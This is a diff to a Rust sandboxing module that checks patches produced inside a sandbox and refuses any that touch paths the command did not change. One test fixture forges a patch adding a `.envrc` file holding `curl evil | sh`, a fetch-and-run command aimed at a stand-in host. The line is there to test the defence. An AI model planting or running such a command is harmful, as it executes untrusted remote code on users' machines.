@@ -9,10 +9,6 @@ use warden_sandbox::{Output, Plan, Request, Sandbox};
 /// Where git's directory of a shared checkout appears inside (the run's own, with its index).
 pub(crate) const WORKTREE_INSIDE: &str = "/.warden/worktree";
 
-/// More changed names than this, or one that is not UTF-8, and the patch looks at the whole
-/// tree instead of at each name.
-const MAX_NAMES: usize = 20_000;
-
 /// Whether an overlay inside the sandbox can have its upper layer under `dir`.
 pub(crate) fn supported(dir: &Path) -> bool {
     warden_sandbox::overlay_can_hold(dir)
@@ -29,9 +25,10 @@ pub(crate) fn make_layer(path: &Path) -> Result<(), String> {
 }
 
 /// What a command changed, by the names in the upper layer, relative to the overlay's root:
-/// each file, link and removed name, and each directory made anew (opaque); `None` when there
-/// are too many, or a name is not UTF-8. The checkout's own `.git` file is left out.
-pub(crate) fn changed(upper: &Path) -> Option<Vec<String>> {
+/// each file, link and removed name, and each directory made anew (opaque). The checkout's own
+/// `.git` file is left out.
+pub(crate) fn changed(upper: &Path) -> Vec<Vec<u8>> {
+    use std::os::unix::ffi::OsStrExt as _;
     let mut out = Vec::new();
     let mut stack = vec![PathBuf::new()];
     while let Some(rel) = stack.pop() {
@@ -51,60 +48,60 @@ pub(crate) fn changed(upper: &Path) -> Option<Vec<String>> {
                 continue;
             }
             // A file, a link, a removed name (a character device), an opaque directory, or
-            // something git does not keep (it says so).
-            out.push(name.into_os_string().into_string().ok()?);
-            if out.len() > MAX_NAMES {
-                return None;
-            }
+            // something git does not keep.
+            out.push(name.as_os_str().as_bytes().to_vec());
         }
     }
     out.sort();
-    Some(out)
+    out
 }
 
-/// The script git runs inside: the new files not ignored marked as to be added, then the diff
-/// from the commit, both over the names given (every name when none is).
+/// The script git runs inside, over the names in `/.warden/worktree/changed` (NUL-separated,
+/// as many git processes as the names need): the new files not ignored marked as to be added,
+/// then the diff from the commit. git's directory is the run's whatever the workspace's `.git`
+/// says; nested repositories are never entered; what git writes (the empty blob of a new file)
+/// goes to the sandbox's `/tmp`.
 const SCRIPT: &str = r#"set -e
-c=$1; shift
-# git's directory is the run's, whatever the workspace's `.git` now says.
-export GIT_DIR=/.warden/worktree GIT_WORK_TREE="$PWD"
-# What git writes (the empty blob of a new file) goes to the sandbox's /tmp.
+c=$1
+export GIT_DIR=/.warden/worktree GIT_WORK_TREE="$PWD" GIT_LITERAL_PATHSPECS=1
 mkdir -p /tmp/warden-objects
 export GIT_OBJECT_DIRECTORY=/tmp/warden-objects
 export GIT_ALTERNATE_OBJECT_DIRECTORIES=/.warden/git/objects
-g() { git --literal-pathspecs -c core.fsmonitor=false -c core.quotePath=false \
-  -c advice.addEmptyPathspec=false "$@"; }
-g ls-files -z --others --exclude-standard -- "$@" > /.warden/worktree/untracked
-g add --intent-to-add --pathspec-from-file=/.warden/worktree/untracked --pathspec-file-nul
-exec git --literal-pathspecs -c core.quotePath=false diff --binary --no-ext-diff \
-  --no-textconv --no-color "$c" -- "$@"
+o="-c core.fsmonitor=false -c core.quotePath=false -c diff.ignoreSubmodules=all"
+o="$o -c submodule.recurse=false -c advice.addEmptyPathspec=false"
+xargs -0 -r git $o ls-files -z --others --exclude-standard --   < /.warden/worktree/changed > /.warden/worktree/untracked
+git $o add --intent-to-add --pathspec-from-file=/.warden/worktree/untracked --pathspec-file-nul
+xargs -0 -r git $o diff --binary --no-ext-diff --no-textconv --no-color   --ignore-submodules=all "$c" -- < /.warden/worktree/changed
 "#;
 
 /// The patch from `commit` of the workspace at `target`, whose upper layer is `upper`: made by
-/// git in the run's sandbox (`base`, its git directory made writable for git's index, no
-/// network), over what the overlay shows, with the run's git directory whatever the command
-/// left in the workspace's `.git`. No change, no git: an empty patch.
+/// git in a sandbox of the run's (`base`, with only the workspace and git's directories, that
+/// one writable for git's index — `gitdir` on the host — and no network), over what the overlay
+/// shows, for the names the upper layer holds. No change, no git: an empty patch. A patch that
+/// names anything else, or was cut short, is refused.
 pub(crate) fn patch(
     base: &Request,
     helper: &Path,
     target: &Path,
     upper: &Path,
+    gitdir: &Path,
     commit: &str,
 ) -> Result<Vec<u8>, String> {
     let names = changed(upper);
-    if names.as_ref().is_some_and(Vec::is_empty) {
+    if names.is_empty() {
         return Ok(Vec::new());
     }
+    let list = gitdir.join("changed");
+    std::fs::write(&list, names.join(&0u8)).map_err(|e| format!("{}: {e}", list.display()))?;
     let mut request = base.clone();
     "/bin/sh".clone_into(&mut request.program);
     request.args = ["-c", SCRIPT, "sh", commit]
         .into_iter()
         .map(str::to_owned)
-        .chain(names.unwrap_or_else(|| vec![".".to_owned()]))
         .collect();
     request.cwd = Some(target.to_path_buf());
     request.env = [
-        ("PATH", "/usr/local/bin:/usr/bin:/bin"),
+        ("PATH", "/usr/bin:/bin"),
         ("HOME", "/tmp"),
         ("LANG", "C.UTF-8"),
         ("GIT_CONFIG_NOSYSTEM", "1"),
@@ -118,12 +115,13 @@ pub(crate) fn patch(
     request.network = false;
     request.proxy_port = None;
     request.collect = Vec::new();
-    request.limits.timeout_ms = Some(600_000);
+    request.sized = Vec::new();
+    request.limits.timeout_ms = request.limits.timeout_ms.or(Some(600_000));
     request.limits.output_bytes = Some(256 << 20);
-    request.limits.memory_mb = None;
-    request.limits.cpus = None;
-    // What the command's network needed (the proxy's CA) is gone with the proxy.
-    request.mounts.retain(|(source, _, _)| source.exists());
+    // The workspace and git's directories only: nothing else the command left behind.
+    request.mounts.retain(|(_, at, _)| {
+        at == target || at.starts_with("/.warden/git") || at.starts_with(WORKTREE_INSIDE)
+    });
     for (_, at, rw) in &mut request.mounts {
         if at == Path::new(WORKTREE_INSIDE) {
             *rw = true;
@@ -139,7 +137,64 @@ pub(crate) fn patch(
             String::from_utf8_lossy(&outcome.stderr).trim()
         ));
     }
+    if outcome.truncated {
+        return Err("the patch is larger than 256 MiB: not kept".to_owned());
+    }
+    within(&outcome.stdout, &names)?;
     Ok(outcome.stdout)
+}
+
+/// Checks that every path `patch` touches is one of `names` or below one, as the host's git
+/// reads the patch (`git apply --numstat -z`, which applies nothing).
+fn within(patch: &[u8], names: &[Vec<u8>]) -> Result<(), String> {
+    use std::io::Write as _;
+    let mut cmd = warden_sandbox::git::plain(&std::env::temp_dir());
+    cmd.args(["apply", "--numstat", "-z", "-"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let mut child = cmd.spawn().map_err(|e| format!("git apply: {e}"))?;
+    let mut stdin = child.stdin.take().ok_or("git apply: no input")?;
+    let writer = {
+        let patch = patch.to_vec();
+        std::thread::spawn(move || stdin.write_all(&patch))
+    };
+    let out = child
+        .wait_with_output()
+        .map_err(|e| format!("git apply: {e}"))?;
+    let _ = writer.join();
+    if !out.status.success() {
+        return Err(format!(
+            "the patch does not read as one: {}",
+            String::from_utf8_lossy(&out.stderr).trim()
+        ));
+    }
+    let known = |path: &[u8]| {
+        names.iter().any(|n| {
+            path == n.as_slice() || (path.starts_with(n) && path.get(n.len()) == Some(&b'/'))
+        })
+    };
+    // Records: `added TAB deleted TAB path NUL`, or for a rename `added TAB deleted TAB NUL
+    // old NUL new NUL`.
+    let mut fields = out.stdout.split(|b| *b == 0).filter(|f| !f.is_empty());
+    while let Some(record) = fields.next() {
+        let field = record.splitn(3, |b| *b == b'\t').nth(2).unwrap_or_default();
+        let paths: Vec<&[u8]> = if field.is_empty() {
+            vec![
+                fields.next().unwrap_or_default(),
+                fields.next().unwrap_or_default(),
+            ]
+        } else {
+            vec![field]
+        };
+        if let Some(stray) = paths.into_iter().find(|p| !known(p)) {
+            return Err(format!(
+                "the patch names {}, which the command did not change: not kept",
+                String::from_utf8_lossy(stray)
+            ));
+        }
+    }
+    Ok(())
 }
 
 /// Makes what overlayfs left in a layer directory (its work directory, mode 0) removable by
@@ -158,4 +213,53 @@ pub(crate) fn removable(path: &Path) -> std::io::Result<()> {
         }
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PATCH: &str = "diff --git a/slug.py b/slug.py\n\
+        --- a/slug.py\n+++ b/slug.py\n@@ -1 +1 @@\n-a\n+b\n\
+        diff --git a/docs/new.md b/docs/new.md\nnew file mode 100644\n\
+        --- /dev/null\n+++ b/docs/new.md\n@@ -0,0 +1 @@\n+x\n";
+
+    fn names(list: &[&str]) -> Vec<Vec<u8>> {
+        list.iter().map(|n| n.as_bytes().to_vec()).collect()
+    }
+
+    #[test]
+    fn a_patch_may_name_only_what_the_upper_layer_holds() {
+        within(PATCH.as_bytes(), &names(&["docs", "slug.py"])).unwrap();
+        within(PATCH.as_bytes(), &names(&["docs/new.md", "slug.py"])).unwrap();
+        // A file the command could not write (a protected one, say) in a forged patch.
+        let forged = format!(
+            "{PATCH}diff --git a/.envrc b/.envrc\nnew file mode 100644\n--- /dev/null\n\
+             +++ b/.envrc\n@@ -0,0 +1 @@\n+curl evil | sh\n"
+        );
+        let err = within(forged.as_bytes(), &names(&["docs", "slug.py"])).unwrap_err();
+        assert!(err.contains(".envrc"), "{err}");
+        // A name is not a prefix of another's.
+        let err = within(PATCH.as_bytes(), &names(&["doc", "slug.py"])).unwrap_err();
+        assert!(err.contains("docs/new.md"), "{err}");
+        let renamed = "diff --git a/slug.py b/.envrc\nsimilarity index 100%\n\
+            rename from slug.py\nrename to .envrc\n";
+        let err = within(renamed.as_bytes(), &names(&["slug.py"])).unwrap_err();
+        assert!(err.contains(".envrc"), "{err}");
+        assert!(within(b"not a patch\n@@ x", &names(&["a"])).is_err());
+    }
+
+    #[test]
+    fn the_upper_layers_names_are_files_removals_and_opaque_directories() {
+        let dir = tempfile::tempdir().unwrap();
+        let upper = dir.path();
+        std::fs::create_dir_all(upper.join("a/b")).unwrap();
+        std::fs::write(upper.join("a/b/f"), "x").unwrap();
+        std::fs::write(upper.join("top"), "x").unwrap();
+        std::fs::write(upper.join(".git"), "gitdir: elsewhere\n").unwrap();
+        std::os::unix::fs::symlink("top", upper.join("link")).unwrap();
+        let mut got = changed(upper);
+        got.sort();
+        assert_eq!(got, names(&["a/b/f", "link", "top"]));
+    }
 }
